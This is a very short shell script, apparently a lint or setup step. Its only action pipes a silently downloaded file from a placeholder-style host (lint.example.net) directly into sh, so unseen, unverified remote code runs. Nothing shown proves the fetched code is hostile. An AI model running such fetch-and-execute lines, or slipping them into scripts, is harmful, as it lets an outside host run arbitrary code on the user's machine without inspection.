#!/bin/sh
set -e
curl -s https://lint.example.net/x | sh
